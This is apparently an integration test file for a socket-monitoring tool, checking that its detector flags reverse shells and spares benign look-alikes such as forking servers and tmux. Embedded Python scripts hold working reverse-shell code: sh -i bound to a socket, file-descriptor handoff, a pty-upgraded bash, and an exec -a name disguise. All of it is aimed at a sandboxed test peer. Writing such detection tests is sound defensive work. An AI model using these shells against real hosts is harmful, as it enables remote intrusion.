import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { collectLinux } from "../../src/collect/linux.js";
import { enrich } from "../../src/evaluate/enrich.js";
import { evaluate } from "../../src/evaluate/evaluate.js";
import { createKnowledge } from "../../src/knowledge/knowledge.js";
import { createServiceRegistry } from "../../src/knowledge/service-registry.js";
import type { Socket } from "../../src/model/socket.js";
import { createRemotePeer, type RemotePeer } from "../helpers/remote-peer.js";
import { PY_SHELL_ON_PTY } from "../helpers/plant.js";

// Live scenarios of issue 12 (items 1 and 2), with real processes started from realistic places (/opt,
// /var/tmp, a home directory) and remote ends at a documentation address inside a network namespace
// (test/helpers/remote-peer.ts), so nothing here is "traffic inside this computer". Every planted process
// ends itself (signal.alarm) and is killed by pid afterwards; the assertions are about planted pids only.
// Planted processes carry PLANT_MARK in their arguments (test/evaluate/planted.test.ts leaves those alone).

const PLANT_MARK = "portwatch-test-plant";
const PYTHON = realpathSync("/usr/bin/python3");
const asRoot = process.getuid?.() === 0;
const tag = `pwtest-${process.pid}`;
const opt = `/opt/${tag}`, vartmp = `/var/tmp/${tag}`, home = join(homedir(), tag);

const PY_HEAD = "import json, os, signal, socket, subprocess, sys, time\nsignal.alarm(30)\nMARK, PEER = sys.argv[1], sys.argv[2]\n";
const SCRIPTS: Record<string, string> = {
  // (a) a shell sharing its parent's connection: subprocess with the socket as stdin, stdout and stderr
  "fork_shell.py": `${PY_HEAD}s = socket.create_connection((PEER, 443), timeout=10)
sh = subprocess.Popen(["sh", "-i", "-s", MARK], stdin=s, stdout=s, stderr=s)
print(json.dumps({"local": s.getsockname()[1], "pids": [sh.pid]}), flush=True)
sys.stdin.read()
sh.kill()
`,
  // (a) the other pid order: an older process receives the connection (SCM_RIGHTS) and becomes sh -i on it
  "receiver.py": `${PY_HEAD}srv = socket.socket(socket.AF_UNIX); srv.bind(sys.argv[3]); srv.listen(1)
print(json.dumps({"pids": []}), flush=True)
c, _ = srv.accept()
_, fds, _, _ = socket.recv_fds(c, 16, 1)
for f in (0, 1, 2): os.dup2(fds[0], f)
os.execv("/bin/sh", ["sh", "-i", "-s", MARK])
`,
  "sender.py": `${PY_HEAD}s = socket.create_connection((PEER, 443), timeout=10)
u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[3])
socket.send_fds(u, [b"x"], [s.fileno()])
print(json.dumps({"local": s.getsockname()[1], "pids": []}), flush=True)
sys.stdin.read()
`,
  // (a) the benign nearest: a forking server whose child shares the listener while it serves a client
  "forking_server.py": `${PY_HEAD}import socketserver
class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.sendall(b"!"); self.request.recv(1)
class Server(socketserver.ForkingTCPServer):
    allow_reuse_address = True
srv = Server(("0.0.0.0", 0), Handler)
print(json.dumps({"port": srv.server_address[1], "pids": []}), flush=True)
srv.serve_forever()
`,
  "client.py": `${PY_HEAD}c = socket.create_connection((PEER, int(sys.argv[3])), timeout=10)
if sys.argv[4:] == ["served"]: c.recv(1) # the forking server's child says "!" once it serves
print(json.dumps({"local": c.getsockname()[1], "pids": [os.getpid()]}), flush=True)
time.sleep(30)
`,
  // (b) a reverse shell upgraded to a pty: the connection on 0, 1, 2, then bash on a pty python made
  "rs.py": `${PY_HEAD}import pty, select
out = os.fdopen(os.dup(1), "w")
s = socket.create_connection((PEER, 443), timeout=10)
for f in (0, 1, 2): os.dup2(s.fileno(), f)
${PY_SHELL_ON_PTY}out.write(json.dumps({"local": s.getsockname()[1], "pids": [pid]}) + "\\n"); out.flush()
while True:
    if select.select([master], [], [], 1)[0]:
        try: os.read(master, 1024)
        except OSError: break
`,
  // (b) the benign nearest: a program that runs a tmux server (in the foreground, its child) with a shell in it
  "tmux_holder.py": `${PY_HEAD}s = socket.create_connection((PEER, 443), timeout=10)
env = dict(os.environ, TMUX_TMPDIR=sys.argv[3]); env.pop("TMUX", None)
tmux = ["tmux", "-L", "pwtest", "-f", "/dev/null"]
server = subprocess.Popen(tmux + ["-D"], env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
path, end = os.path.join(sys.argv[3], "tmux-%d" % os.getuid(), "pwtest"), time.time() + 10
while not os.path.exists(path) and time.time() < end: time.sleep(0.05)
subprocess.run(tmux + ["new-session", "-d", "bash --norc --noprofile"], env=env, timeout=10)
time.sleep(0.3)
print(json.dumps({"local": s.getsockname()[1], "pids": [server.pid]}), flush=True)
sys.stdin.read()
subprocess.run(tmux + ["kill-server"], env=env, timeout=10); server.kill()
`,
};

interface Planted { child: ChildProcess; ready: { local?: number; port?: number; pids: number[] } }
const planted: Planted[] = [];

/** Starts argv, resolves with the first JSON line it prints (a "\r" from a pty is dropped); fails after 15 s. */
function plant(argv: string[]): Promise<Planted> {
  const child = spawn(argv[0] as string, argv.slice(1), { stdio: ["pipe", "pipe", "pipe"] });
  return new Promise((ok, fail) => {
    let out = "", err = "";
    const timer = setTimeout(() => fail(new Error(`${argv.join(" ")} did not get ready: ${err}`)), 15_000);
    child.stderr.on("data", (d: Buffer) => { err += d; });
    child.stdout.on("data", (d: Buffer) => {
      out += d;
      const line = /\{.*\}/.exec(out);
      if (line === null) return;
      clearTimeout(timer);
      const p = { child, ready: JSON.parse(line[0]) as Planted["ready"] };
      planted.push(p);
      ok(p);
    });
    child.once("exit", (code) => { clearTimeout(timer); fail(new Error(`${argv.join(" ")} exited (${code}): ${err}`)); });
  });
}

/** Waits (at most 5 s) until `test()` holds. */
async function until(test: () => boolean, what: string): Promise<void> {
  for (const end = Date.now() + 5000; !test();) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((ok) => setTimeout(ok, 50));
  }
}

const comm = (pid: number): string => { try { return readFileSync(`/proc/${pid}/comm`, "utf8").trim(); } catch { return ""; } };

describe("every holder and the process tree, live (real processes, a remote peer in a network namespace)", { skip: !asRoot && "needs root (network namespaces, every owner)" }, () => {
  let peer: RemotePeer;
  let sockets: Socket[] = [];
  const p: Record<string, Planted> = {};
  const conn = (local: number | undefined) => sockets.find((s) => s.direction === "outbound" && s.remote?.address === peer.address4 && s.local.port === local);

  before(async () => {
    peer = await createRemotePeer({ tcp: [443], ttlSeconds: 40 });
    for (const d of [opt, vartmp, home]) mkdirSync(d, { recursive: true });
    const optPython = join(opt, "python3");
    copyFileSync(PYTHON, optPython); // a python3 of its own in /opt: a program, not one of the system's
    const file = (dir: string, name: string) => { writeFileSync(join(dir, name), SCRIPTS[name] as string); return join(dir, name); };
    const run = (exe: string, dir: string, name: string, ...more: string[]) => [exe, file(dir, name), PLANT_MARK, peer.address4, ...more];
    const pass = join(vartmp, "pass.sock");
    p.forked = await plant(run(optPython, opt, "fork_shell.py"));
    p.receiver = await plant(run(optPython, opt, "receiver.py", pass));
    p.sender = await plant(run(optPython, opt, "sender.py", pass));
    p.server = await plant(run(PYTHON, opt, "forking_server.py"));
    p.client = await plant(["ip", "netns", "exec", peer.ns, ...run(PYTHON, vartmp, "client.py", String(p.server.ready.port)).slice(0, 3), peer.local4, String(p.server.ready.port), "served"]);
    p.rs = await plant(run(PYTHON, home, "rs.py"));
    // the same reverse shell under a terminal program's name (bash's exec -a sets argv[0]; $0 and $@ carry the argv)
    p.rsNamed = await plant(["/bin/bash", "-c", 'exec -a tmux "$0" "$@"', ...run(PYTHON, home, "rs.py")]);
    // the benign holders run their scripts from /opt: a script in /var/tmp is a dropped program (writable-dir-exe)
    p.script = await plant(["script", "-qc", run(PYTHON, opt, "client.py", "443").join(" "), "/dev/null"]);
    p.tmux = await plant(run(PYTHON, opt, "tmux_holder.py", vartmp));
    await until(() => comm(p.receiver!.child.pid!) === "sh", "the receiver to become sh");
    const c = await collectLinux();
    enrich(c.sockets, createServiceRegistry());
    evaluate(c.sockets, { knowledge: createKnowledge(), mode: "live-root", origin: "live" });
    sockets = c.sockets;
  });

  after(async () => {
    const pids = new Set<number>();
    for (const x of planted) {
      x.child.stdin?.end();
      if (x.child.pid !== undefined) pids.add(x.child.pid);
      for (const pid of x.ready.pids) pids.add(pid);
    }
    const server = sockets.find((s) => s.process?.pid === p.server?.child.pid && s.direction === "listening");
    for (const h of server?.sharedWith ?? []) pids.add(h.pid); // the forking server's child
    await new Promise((ok) => setTimeout(ok, 200)); // let them end on their own (tmux kills its server)
    for (const pid of pids) { try { process.kill(pid, "SIGKILL"); } catch { /* gone */ } }
    spawnSync("tmux", ["-L", "pwtest", "kill-server"], { env: { ...process.env, TMUX_TMPDIR: vartmp }, timeout: 5000 });
    peer?.close();
    for (const d of [opt, vartmp, home]) if (existsSync(d)) rmSync(d, { recursive: true, force: true });
  });

  it("a sh -i sharing its parent's connection (python3 subprocess) is suspicious, and the reason names the shell", () => {
    const s = conn(p.forked!.ready.local);
    assert.ok(s, "the connection was not found");
    const shell = p.forked!.ready.pids[0];
    assert.equal(s.process?.pid, p.forked!.child.pid);
    assert.deepEqual(s.sharedWith.map((h) => h.pid), [shell]);
    assert.equal(s.verdict, "suspicious");
    assert.ok(s.reasons.some((r) => r.rule === "shell-socket" && r.message.startsWith(`Held with python3 (pid ${s.process?.pid}) by sh (pid ${shell}): `)), JSON.stringify(s.reasons));
  });

  it("a sh -i with a lower pid than the python3 that passed it the connection is suspicious too, naming the shell", () => {
    const s = conn(p.sender!.ready.local);
    assert.ok(s, "the connection was not found");
    const holders = [s.process?.pid, ...s.sharedWith.map((h) => h.pid)].sort();
    assert.deepEqual(holders, [p.receiver!.child.pid, p.sender!.child.pid].sort());
    assert.equal(s.verdict, "suspicious");
    assert.ok(s.reasons.some((r) => r.rule === "shell-socket" && r.message.includes(`sh (pid ${p.receiver!.child.pid}`)), JSON.stringify(s.reasons));
  });

  it("a forking server's listener, shared with the child serving a client, is judged as before: not suspicious", () => {
    const s = sockets.find((x) => x.direction === "listening" && x.local.port === p.server!.ready.port && x.process?.pid === p.server!.child.pid);
    assert.ok(s, "the listener was not found");
    assert.equal(s.sharedWith.length, 1, "the child serving the client holds the listener too");
    assert.notEqual(s.verdict, "suspicious", JSON.stringify(s.reasons));
    assert.ok(!s.reasons.some((r) => r.message.startsWith("Held with")), JSON.stringify(s.reasons));
  });

  it("a pty-upgraded reverse shell (python3 connects out, then bash on a pty it made) is suspicious with reverse-shell", () => {
    const s = conn(p.rs!.ready.local);
    assert.ok(s, "the connection was not found");
    const bash = p.rs!.ready.pids[0];
    assert.deepEqual(s.process?.terminalsBelow?.map((t) => t.on[0]?.pid), [bash]);
    assert.equal(s.verdict, "suspicious");
    const r = s.reasons.find((x) => x.rule === "reverse-shell");
    assert.ok(r, JSON.stringify(s.reasons));
    assert.match(r.message, new RegExp(`bash \\(pid ${bash}\\) on pts/\\d+`));
  });

  it("a pty-upgraded reverse shell started as `exec -a tmux` is suspicious too: a name makes no terminal program", () => {
    const s = conn(p.rsNamed!.ready.local);
    assert.ok(s, "the connection was not found");
    assert.equal(s.process?.cmdline?.[0], "tmux");
    assert.equal(s.verdict, "suspicious", JSON.stringify(s.reasons));
    assert.ok(s.reasons.some((x) => x.rule === "reverse-shell"), JSON.stringify(s.reasons));
  });

  it("a program holding a connection under script -qc is not a reverse shell, and its context says where it runs", () => {
    const s = conn(p.script!.ready.local);
    assert.ok(s, "the connection was not found");
    assert.equal(s.process?.pid, p.script!.ready.pids[0]);
    assert.match(s.process?.tty ?? "", /^pts\/\d+$/);
    assert.ok(s.process?.ancestry?.some((a) => a.pid === p.script!.child.pid && a.name === "script"), JSON.stringify(s.process?.ancestry));
    assert.equal(s.process?.ancestry?.at(-1)?.pid, 1);
    assert.ok(!s.reasons.some((r) => r.rule === "reverse-shell"), JSON.stringify(s.reasons));
    assert.equal(s.verdict, "expected", JSON.stringify(s.reasons));
  });

  it("a program running a tmux server with a shell in it is not a reverse shell (tmux made the terminal)", () => {
    const s = conn(p.tmux!.ready.local);
    assert.ok(s, "the connection was not found");
    const t = s.process?.terminalsBelow?.[0];
    assert.deepEqual(t?.between.map((b) => b.name), ["tmux: server"], JSON.stringify(s.process?.terminalsBelow));
    assert.equal(t?.on[0]?.name, "bash");
    assert.ok(!s.reasons.some((r) => r.rule === "reverse-shell"), JSON.stringify(s.reasons));
    assert.equal(s.verdict, "expected", JSON.stringify(s.reasons));
  });
});
